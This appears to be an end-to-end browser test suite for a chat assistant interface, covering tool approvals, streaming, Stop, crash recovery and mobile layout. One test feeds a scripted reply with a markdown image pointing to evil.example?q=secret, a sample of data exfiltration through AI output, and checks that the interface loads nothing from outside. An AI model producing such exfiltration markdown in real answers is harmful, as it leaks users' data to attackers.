// A conversation with the assistant of the real probe, over a scripted model: messages, approvals, Stop, a killed process, and
// the box without a model.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { after, afterEach, before, test } from "node:test";

import { launch } from "./chromium.mjs";
import { ModelServer } from "./model-server.mjs";
import { beside, Refine } from "./refine.mjs";
import { Opened } from "./test-page.mjs";

let browser;
const model = new ModelServer();
const probe = new Refine(beside("probe"));
let open;

before(async () => {
  browser = await launch();
  await model.start();
  await probe.start(model.env);
});
after(async () => {
  await browser?.close();
  await probe.stop();
  await model.stop();
});
afterEach(async () => {
  await open?.close();
  open = null;
});

const link = () => execFileSync(probe.binary, ["link", "--data-dir", probe.data], { encoding: "utf8" }).trim();

async function opened(options) {
  open = await Opened.at(browser, link(), options);
  await open.state("live");
  return open.page;
}

async function write(page, text) {
  await page.getByLabel("Message to").fill(text);
  await page.getByLabel("Message to").press("Enter");
}

const question = (page) => page.locator("#turns .question").last();

test("a sentence is answered, functions run, and a destructive one waits for the click", async () => {
  const page = await opened();
  model
    .calls("echo", { text: "hello", times: 1 }, "I look first.")
    .calls("erase_words", { text: "all", times: 2 })
    .says("They are gone.");
  await write(page, "Say hello, then erase all words.");
  assert.equal(await page.getByLabel("Message to").inputValue(), "");
  await open.seen("Say hello, then erase all words.");
  await question(page).getByText("Erase words for good?").waitFor();
  await question(page).getByText("Asked for by the assistant, not typed by you.").waitFor();
  assert.equal(await page.getByText("Erased: all").count(), 0);
  await page.getByRole("region", { name: "Questions" }).getByText("asks").waitFor();
  await open.accessible("a conversation with an approval");
  // A click at the moment when the question appears is not meant for it.
  await page.waitForTimeout(700);
  await question(page).getByRole("button", { name: "Erase words" }).click();
  await open.seen("Erased: all");
  await page.locator("#turns").getByText("They are gone.").waitFor();
  await page.locator("#turns .by-assistant", { hasText: "The assistant, allowed by you" }).waitFor();
  await page.getByRole("button", { name: "Stop", exact: true }).waitFor({ state: "hidden" });
  assert.equal(await page.locator("#turns").getByText("Thinking…").isVisible(), false);
  assert.doesNotMatch((await open.said()).join(" "), /Thinking/);
  await open.accessible("the end of a conversation");
});

test("the tab is closed in the middle, the process is killed, and the conversation goes on", async () => {
  const page = await opened();
  let release;
  const asked = model.requests.length;
  model.calls("echo", { text: "kept", times: 1 }).says("Never sent.", new Promise(() => {}));
  await write(page, "Say kept.");
  await open.seen("kept");
  await page.getByRole("button", { name: "Stop", exact: true }).waitFor();
  while (model.requests.length < asked + 2) await new Promise((done) => setTimeout(done, 20));
  await page.close();
  await probe.crash();
  model.says("I said it.", new Promise((done) => (release = done)));
  await probe.start(model.env);
  const again = await open.context.newPage();
  open.page = again;
  await again.goto(probe.url);
  await open.state("live");
  release();
  await again.locator("#turns").getByText("I said it.").waitFor({ timeout: 30_000 });
  assert.equal(await again.locator("#turns .by-assistant", { hasText: "kept" }).count(), 1);
  assert.equal(model.requests.length, asked + 3, "the stored reply was not asked for again");
});

test("words appear while the model writes them, in a tab that is opened meanwhile too, and Stop keeps them", async () => {
  const page = await opened();
  let end;
  model.begins("First come these words", new Promise((done) => (end = done)));
  await write(page, "Speak slowly.");
  await page.locator("#turns").getByText("First come these words").waitFor();
  await open.accessible("an answer that is being written");
  const other = await open.context.newPage();
  await other.goto(probe.url);
  await other.locator("#turns").getByText("First come these words").waitFor();
  assert.equal(await other.locator("#turns").getByText("First come these words").count(), 1);
  await other.close();
  end();
  await page.getByRole("button", { name: "Stop", exact: true }).waitFor({ state: "hidden" });
  assert.equal(await page.locator("#turns").getByText("First come these words").count(), 1);
  model.begins("This is cut in its", new Promise(() => {}));
  await write(page, "Speak again.");
  await page.locator("#turns").getByText("This is cut in its").waitFor();
  await page.getByRole("button", { name: "Stop", exact: true }).click();
  await page.locator("#turns .partial", { hasText: "This is cut in its" }).waitFor();
  assert.equal(await page.locator("#turns").getByText("This is cut in its").count(), 1);
});

test("Stop stops the answer, and a picture of another host is not loaded", async () => {
  const page = await opened();
  const asked = model.requests.length;
  model.says("Never said.", new Promise(() => {}));
  await write(page, "Talk for ever.");
  while (model.requests.length === asked) await new Promise((done) => setTimeout(done, 20));
  await page.getByRole("button", { name: "Stop", exact: true }).click();
  await page.locator("#turns").getByText("Answer was cancelled.").nth(1).waitFor();
  const outside = [];
  page.on("request", (request) => request.url().startsWith(probe.url) || outside.push(request.url()));
  model.says("Look: ![a picture](https://evil.example/?q=secret) [a link](https://evil.example/x)");
  await write(page, "Show me.");
  await page.locator("#turns").getByText("Look:").waitFor();
  assert.deepEqual(outside, []);
});

test("it works at phone width, by keys, and keeps what was written", async () => {
  const page = await opened({ viewport: { width: 360, height: 640 } });
  const box = page.getByLabel("Message to");
  await box.fill("/ech");
  await page.getByRole("option", { name: "Echo" }).waitFor();
  await open.accessible("the menu of functions on a phone");
  await box.press("Escape");
  await page.getByRole("listbox", { name: "Fitting functions" }).waitFor({ state: "hidden" });
  await box.fill("a draft");
  await page.reload();
  await open.state("live");
  assert.equal(await page.getByLabel("Message to").inputValue(), "a draft");
  await open.fits("the message box");
  await page.getByLabel("Message to").fill("");
  model.says("On a phone too.");
  await write(page, "Hello from a phone.");
  await page.locator("#turns").getByText("On a phone too.").waitFor();
  await open.fits("a conversation");
  await open.accessible("a conversation on a phone");
});

test("a refused message can be put back into the box", async () => {
  const page = await opened();
  await page.route("**/v1/chat/say", (route) =>
    route.fulfill({ status: 429, json: { error: { code: "RATE_LIMITED", message: "Five messages wait already." } } }),
  );
  await write(page, "Too many.");
  await page.getByText("Five messages wait already.").waitFor();
  await page.getByRole("button", { name: "Put back into the box" }).click();
  assert.equal(await page.getByLabel("Message to").inputValue(), "Too many.");
  await page.getByLabel("Message to").fill("");
});

test("without a model the box finds functions by words and opens the form with the text", async () => {
  await probe.crash();
  await probe.start();
  const page = await opened();
  await page.getByText("No model is set").waitFor();
  const box = page.getByLabel("Find a function");
  await box.fill("erase these words");
  await page.getByRole("option", { name: "Erase words" }).waitFor();
  await open.accessible("the box without a model");
  await box.press("Enter");
  await page.locator("#side").getByRole("heading", { name: "Erase words" }).waitFor();
  assert.equal(
    await page.locator(".function-form textarea, .function-form input").first().inputValue(),
    "erase these words",
  );
});
